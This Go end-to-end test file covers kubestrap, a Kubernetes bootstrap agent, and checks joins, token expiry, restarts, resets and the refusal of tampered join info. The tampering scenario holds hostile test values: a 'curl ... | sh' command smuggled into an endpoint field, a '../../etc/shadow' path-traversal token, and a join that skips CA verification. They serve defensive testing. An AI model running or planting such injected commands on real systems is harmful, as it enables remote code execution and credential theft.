//go:build e2e

package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kubestrap/kubestrap/internal/state"
)

// Scenario 1: fresh bootstrap of 1 + 2 nodes by kubestrap, from user-data.
func TestScenario1FreshBootstrap(t *testing.T) {
	ns := nodes(t)
	for _, name := range []string{"cp", "w1", "w2"} {
		n, ok := ns[name]
		if !ok || !n.ready() {
			t.Fatalf("Node %s: present=%v ready=%v", name, ok, n.ready())
		}
	}
	if _, ok := ns["cp"].Metadata.Labels["node-role.kubernetes.io/control-plane"]; !ok {
		t.Errorf("Node cp lacks the control-plane role label")
	}

	// The control plane: one kubeadm init, join info published, READY.
	cp := agentState(t, "cp")
	if cp.Phase != state.PhasePublished || cp.InitializedAt.IsZero() || cp.TokenID == "" {
		t.Errorf("cp state: phase %s, initializedAt %s, token %q", cp.Phase, cp.InitializedAt, cp.TokenID)
	}
	if n := countCalls(kubeadmCalls(t, "cp"), "init"); n != 1 {
		t.Errorf("cp ran kubeadm init %d times, want 1", n)
	}
	if !readyIn(notifications(t, "cp"), 1) {
		t.Errorf("cp agent sent no READY=1")
	}
	info, raw := joinObject(t)
	if info.Cluster != cluster || info.TokenID() != cp.TokenID || info.Generation != cp.JoinGeneration {
		t.Errorf("join.json (gen %d, token %s) is not what cp published (gen %d, token %s)",
			info.Generation, info.TokenID(), cp.JoinGeneration, cp.TokenID)
	}
	if _, ok := tokens(t)[cp.TokenID]; !ok {
		t.Errorf("published token %s is not in kubeadm token list", cp.TokenID)
	}
	if !strings.Contains(string(raw), `"caCertHashes":["sha256:`) {
		t.Errorf("join.json has no CA hash pin: %s", raw)
	}

	// Workers: one kubeadm join each, READY, ECR credentials for the kubelet.
	for _, w := range []string{"w1", "w2"} {
		st := agentState(t, w)
		if st.Phase != state.PhaseJoined || st.JoinedAt.IsZero() {
			t.Errorf("%s state: phase %s joinedAt %s", w, st.Phase, st.JoinedAt)
		}
		if n := countCalls(kubeadmCalls(t, w), "join"); n != 1 {
			t.Errorf("%s ran kubeadm join %d times, want 1", w, n)
		}
		ns := notifications(t, w)
		if !readyIn(ns, 1) {
			t.Errorf("%s agent sent no READY=1", w)
		}
		if s := statuses(ns); len(s) == 0 || s[len(s)-1] != "joined as "+w {
			t.Errorf("%s: last STATUS %q", w, s)
		}
		if len(st.ECRRegistries) != 1 || st.ECRRegistries[0] != ecrHost {
			t.Errorf("%s: ECR registries %v, want [%s]", w, st.ECRRegistries, ecrHost)
		}
		fi, err := os.Stat(filepath.Join(nodeDir(w), "kubelet", "config.json"))
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: /var/lib/kubelet/config.json: %v (mode %v)", w, err, fi)
		}
	}
	// No static AWS keys on the nodes: the user-data's environment file holds
	// only endpoints, the credentials come from the instance role via IMDS.
	for _, n := range []string{"cp", "w1", "w2"} {
		for _, f := range []string{"default/kubestrap", "kubestrap/config.yaml"} {
			b, err := os.ReadFile(filepath.Join(nodeDir(n), "etc", "upper", f))
			if err != nil {
				t.Fatalf("%s: /etc/%s: %v", n, f, err)
			}
			if strings.Contains(string(b), "AWS_ACCESS_KEY") || strings.Contains(string(b), "AWS_SECRET") {
				t.Errorf("%s: /etc/%s holds static AWS keys", n, f)
			}
		}
	}
	// No token secret in any agent log: only token IDs.
	secret := info.Token[strings.Index(info.Token, ".")+1:]
	for _, n := range []string{"cp", "w1", "w2"} {
		if strings.Contains(agentLog(t, n), secret) {
			t.Errorf("%s: the token secret appears in the agent log", n)
		}
	}
}

// The demo app: built locally, pushed to the ECR-style registry, pulled by a
// worker's kubelet with the credentials kubestrap wrote, answering on its NodePort.
func TestDemoApp(t *testing.T) {
	out := mustScript(t, "demo-app.sh")
	t.Log(out)
	if !strings.Contains(out, "hello from kubestrap demo-app") {
		t.Fatalf("demo-app did not answer")
	}
}

// publishedEntries are the control plane's "published join info" log entries.
type published struct {
	TokenID    string
	Generation int64
	ExpiresAt  time.Time
}

func publications(t *testing.T) []published {
	t.Helper()
	var out []published
	for _, f := range logEntries(t, "cp", "published join info") {
		p := published{}
		p.TokenID, _ = f["tokenID"].(string)
		if g, ok := f["generation"].(float64); ok {
			p.Generation = int64(g)
		}
		if s, ok := f["expiresAt"].(string); ok {
			p.ExpiresAt, _ = time.Parse(time.RFC3339Nano, s)
		}
		out = append(out, p)
	}
	return out
}

// Scenario 2: a worker booted after the first token expired (tokenTTL 2m in
// the test config) joins with the refreshed join info.
func TestScenario2WorkerBootedAfterFirstTokenExpired(t *testing.T) {
	pubs := publications(t)
	if len(pubs) == 0 || pubs[0].ExpiresAt.IsZero() {
		t.Fatalf("no publication in the control plane's log: %+v", pubs)
	}
	first := pubs[0]
	sleepUntil(t, first.ExpiresAt.Add(3*time.Second), fmt.Sprintf("first token %s expires at %s", first.TokenID, first.ExpiresAt.Format(time.RFC3339)))
	if _, ok := tokens(t)[first.TokenID]; ok {
		t.Errorf("expired first token %s is still in kubeadm token list", first.TokenID)
	}
	if info, _ := joinObject(t); info.TokenID() == first.TokenID || !info.ExpiresAt.After(time.Now()) {
		t.Fatalf("join.json was not refreshed: token %s expires %s", info.TokenID(), info.ExpiresAt)
	}
	bootNode(t, "w3")
	waitJoined(t, "w3", 3*time.Minute)
	st := agentState(t, "w3")
	if st.JoinGeneration <= first.Generation || st.TokenID == first.TokenID {
		t.Errorf("w3 joined with generation %d token %s; want newer than the first (%d, %s)",
			st.JoinGeneration, st.TokenID, first.Generation, first.TokenID)
	}
	if n := countCalls(kubeadmCalls(t, "w3"), "join"); n != 1 {
		t.Errorf("w3 ran kubeadm join %d times, want 1", n)
	}
}

// Scenario 3: the control-plane agent is stopped until the published token
// has expired; a new worker waits and says why; the agent comes back,
// publishes, and the worker joins.
func TestScenario3ControlPlaneAgentDownPastExpiry(t *testing.T) {
	systemctl(t, "cp", "stop", "kubestrap")
	if u := unit(t, "cp"); u.Active != "inactive" {
		t.Fatalf("cp kubestrap unit is %s after stop", u.Active)
	}
	stale, _ := joinObject(t)
	sleepUntil(t, stale.ExpiresAt.Add(3*time.Second), "the published token "+stale.TokenID()+" expires")

	bootNode(t, "w4")
	eventually(t, time.Minute, "w4 refusing the expired join info with a clear STATUS", func() (bool, string) {
		s := unit(t, "w4").Status
		return strings.Contains(s, "refusing join info") && strings.Contains(s, "expired"), s
	})
	if st := agentState(t, "w4"); st.Phase != state.PhaseWaitingJoinInfo {
		t.Errorf("w4 phase %s, want %s", st.Phase, state.PhaseWaitingJoinInfo)
	}
	if n := countCalls(kubeadmCalls(t, "w4"), "join"); n != 0 {
		t.Fatalf("w4 ran kubeadm join %d times with expired join info", n)
	}

	before := unit(t, "cp").Starts
	systemctl(t, "cp", "start", "kubestrap") // Type=notify: returns once READY=1 is sent
	if !readyIn(notifications(t, "cp"), before+1) {
		t.Errorf("cp agent sent no READY=1 after coming back")
	}
	if n := countCalls(kubeadmCalls(t, "cp"), "init"); n != 1 {
		t.Errorf("cp ran kubeadm init %d times, want 1", n)
	}
	waitJoined(t, "w4", 3*time.Minute)
	if st := agentState(t, "w4"); st.JoinGeneration <= stale.Generation {
		t.Errorf("w4 joined with generation %d, want newer than the stale %d", st.JoinGeneration, stale.Generation)
	}
}

// Scenario 4: the agent restarts on every node: no second init or join, and
// READY again from each new process.
func TestScenario4AgentRestartsEverywhere(t *testing.T) {
	all := []string{"cp", "w1", "w2", "w3", "w4"}
	type snap struct {
		starts, inits, joins int
		uid                  string
		st                   state.State
	}
	ns := nodes(t)
	before := map[string]snap{}
	for _, n := range all {
		calls := kubeadmCalls(t, n)
		before[n] = snap{unit(t, n).Starts, countCalls(calls, "init"), countCalls(calls, "join"), ns[n].Metadata.UID, agentState(t, n)}
	}
	for _, n := range all {
		start := time.Now()
		systemctl(t, n, "restart", "kubestrap") // returns once the new process sent READY=1
		t.Logf("%s: agent restarted and READY in %s", n, time.Since(start).Round(100*time.Millisecond))
	}
	ns = nodes(t)
	for _, n := range all {
		b, u, calls := before[n], unit(t, n), kubeadmCalls(t, n)
		if u.Starts != b.starts+1 || !u.Ready {
			t.Errorf("%s: unit starts %d -> %d, ready %v", n, b.starts, u.Starts, u.Ready)
		}
		if !readyIn(notifications(t, n), u.Starts) {
			t.Errorf("%s: no READY=1 from the restarted agent", n)
		}
		if i, j := countCalls(calls, "init"), countCalls(calls, "join"); i != b.inits || j != b.joins {
			t.Errorf("%s: kubeadm init %d -> %d, join %d -> %d; want no new init or join", n, b.inits, i, b.joins, j)
		}
		if ns[n].Metadata.UID != b.uid || !ns[n].ready() {
			t.Errorf("%s: Node object changed or not Ready (uid %s -> %s)", n, b.uid, ns[n].Metadata.UID)
		}
		st := agentState(t, n)
		if !st.InitializedAt.Equal(b.st.InitializedAt) || !st.JoinedAt.Equal(b.st.JoinedAt) {
			t.Errorf("%s: initializedAt/joinedAt changed across restart: %s/%s -> %s/%s",
				n, b.st.InitializedAt, b.st.JoinedAt, st.InitializedAt, st.JoinedAt)
		}
	}
}

// Scenario 5: `kubeadm reset -f` on a joined worker: kubestrap joins it again.
func TestScenario5ResetWorkerJoinsAgain(t *testing.T) {
	joins := countCalls(kubeadmCalls(t, "w1"), "join")
	resetAt := time.Now()
	// The operator's reset: the real kubeadm, not the agent's.
	if out, err := inNode("w1", filepath.Join(kubeBin, "kubeadm"), "reset", "-f"); err != nil {
		t.Fatalf("kubeadm reset -f on w1: %v\n%s", err, out)
	}
	eventually(t, time.Minute, "w1's agent noticing the lost membership", func() (bool, string) {
		for _, s := range statuses(notifications(t, "w1")) {
			if strings.Contains(s, "no longer joined") {
				return true, s
			}
		}
		return false, unit(t, "w1").Status
	})
	eventually(t, 5*time.Minute, "w1 joined again and Ready", func() (bool, string) {
		st := agentState(t, "w1")
		if st.Phase != state.PhaseJoined || !st.JoinedAt.After(resetAt) {
			return false, fmt.Sprintf("phase %s: %s", st.Phase, st.Message)
		}
		n := nodes(t)["w1"]
		return n.ready(), fmt.Sprintf("joined; Node ready=%v", n.ready())
	})
	if n := countCalls(kubeadmCalls(t, "w1"), "join"); n <= joins {
		t.Errorf("w1 ran kubeadm join %d times in all, want more than %d", n, joins)
	}
	if s := statuses(notifications(t, "w1")); s[len(s)-1] != "joined as w1" {
		t.Errorf("w1: last STATUS %q", s[len(s)-1])
	}
	// kubeadm reset empties /var/lib/kubelet, ECR credentials included: the
	// agent writes them again right after the join.
	eventually(t, time.Minute, "w1's ECR credentials written again after the re-join", func() (bool, string) {
		_, err := os.Stat(filepath.Join(nodeDir("w1"), "kubelet", "config.json"))
		return err == nil, fmt.Sprint(err)
	})
}

// Scenario 6: an attacker overwrites join.json with hostile content: every
// waiting worker refuses each version, with no kubeadm call; the next
// legitimate publish (the control plane replaces the foreign object) is
// accepted and the workers join.
func TestScenario6HostileJoinInfoRefused(t *testing.T) {
	// Least privilege, with IAM enforced by moto: a worker's instance role can
	// read join.json but not write it, so the attacker is not a worker.
	probe := filepath.Join(runDir, "probe.json")
	if err := os.WriteFile(probe, []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := script("aws.sh", "as-node", "w1", "s3api", "put-object", "--bucket", bucket,
		"--key", cluster+"/join.json", "--body", probe); err == nil || !strings.Contains(out, "AccessDenied") {
		t.Fatalf("w1's instance role writing join.json: want AccessDenied, got err=%v\n%s", err, out)
	}
	if out, err := script("aws.sh", "as-node", "w1", "s3api", "head-object", "--bucket", bucket,
		"--key", cluster+"/join.json"); err != nil {
		t.Fatalf("w1's instance role cannot read join.json: %v\n%s", err, out)
	}

	// The control-plane agent is stopped so that the hostile object stays in
	// place while the workers look at it (it would replace it within a minute).
	systemctl(t, "cp", "stop", "kubestrap")
	_, legit := joinObject(t)
	var base map[string]any
	if err := json.Unmarshal(legit, &base); err != nil {
		t.Fatal(err)
	}
	hostileGen := base["generation"].(float64) + 100
	with := func(k string, v any) []byte {
		m := map[string]any{}
		for key, val := range base {
			m[key] = val
		}
		m["generation"] = hostileGen
		if v == nil {
			delete(m, k)
		} else {
			m[k] = v
		}
		b, _ := json.Marshal(m)
		return b
	}
	past := time.Now().Add(-time.Hour).UTC()
	expired := func() []byte {
		m := map[string]any{}
		json.Unmarshal(with("issuedAt", past.Add(-time.Hour).Format(time.RFC3339)), &m)
		m["expiresAt"] = past.Format(time.RFC3339)
		b, _ := json.Marshal(m)
		return b
	}()
	cases := []struct {
		name string
		body []byte
		want string // in the refusal STATUS
	}{
		{"shell command in the endpoint", with("apiServerEndpoint", "10.200.0.10:6443; curl -s http://10.200.0.2/x | sh"), "apiServerEndpoint"},
		{"another cluster", with("cluster", "prod"), "cluster"},
		{"malformed token", with("token", "../../etc/shadow"), "token"},
		{"bad CA pin", with("caCertHashes", []string{"md5:0123"}), "caCertHashes"},
		{"no CA pin", with("caCertHashes", []string{}), "caCertHashes"},
		{"expired token", expired, "expired"},
		{"extra field", with("command", "kubeadm join --discovery-token-unsafe-skip-ca-verification"), "not valid join info JSON"},
		{"a shell script", []byte("#!/bin/sh\nkubeadm join 10.200.0.2:6443 --token abcdef.0123456789abcdef --discovery-token-unsafe-skip-ca-verification\n"), "not valid join info JSON"},
		{"oversize", with("apiServerEndpoint", strings.Repeat("a", 70<<10)), "larger than"},
	}
	waiting := []string{"w5", "w6"}
	for i, c := range cases {
		at := time.Now()
		putJoinObject(t, c.body)
		if i == 0 {
			// The workers boot while the first hostile object is in place.
			for _, w := range waiting {
				bootNode(t, w)
			}
		}
		for _, w := range waiting {
			eventually(t, 30*time.Second, fmt.Sprintf("%s refusing %s", w, c.name), func() (bool, string) {
				for _, n := range notifications(t, w) {
					s := n.Fields["STATUS"]
					if n.Time.After(at) && strings.Contains(s, "refusing join info") && strings.Contains(s, c.want) {
						return true, s
					}
				}
				return false, unit(t, w).Status
			})
		}
	}
	for _, w := range waiting {
		if calls := kubeadmCalls(t, w); len(calls) != 0 {
			t.Fatalf("%s ran kubeadm on hostile join info: %v", w, calls)
		}
		if st := agentState(t, w); st.Phase != state.PhaseWaitingJoinInfo {
			t.Errorf("%s: phase %s, want %s", w, st.Phase, state.PhaseWaitingJoinInfo)
		}
	}

	// The control plane comes back, finds a foreign join.json and replaces it.
	systemctl(t, "cp", "start", "kubestrap")
	info, _ := joinObject(t)
	if cp := agentState(t, "cp"); info.Generation != cp.JoinGeneration || info.TokenID() != cp.TokenID {
		t.Fatalf("join.json (gen %d, %s) is not the control plane's (gen %d, %s)",
			info.Generation, info.TokenID(), cp.JoinGeneration, cp.TokenID)
	}
	for _, w := range waiting {
		waitJoined(t, w, 3*time.Minute)
		// The generation a refused object claimed means nothing: the workers
		// join with what the control plane published after the attack.
		if st := agentState(t, w); st.JoinGeneration < info.Generation ||
			(st.JoinGeneration == info.Generation && st.TokenID != info.TokenID()) {
			t.Errorf("%s joined with generation %d token %s, want the control plane's republished generation %d (token %s) or later",
				w, st.JoinGeneration, st.TokenID, info.Generation, info.TokenID())
		}
		if n := countCalls(kubeadmCalls(t, w), "join"); n != 1 {
			t.Errorf("%s ran kubeadm join %d times, want 1", w, n)
		}
	}
}
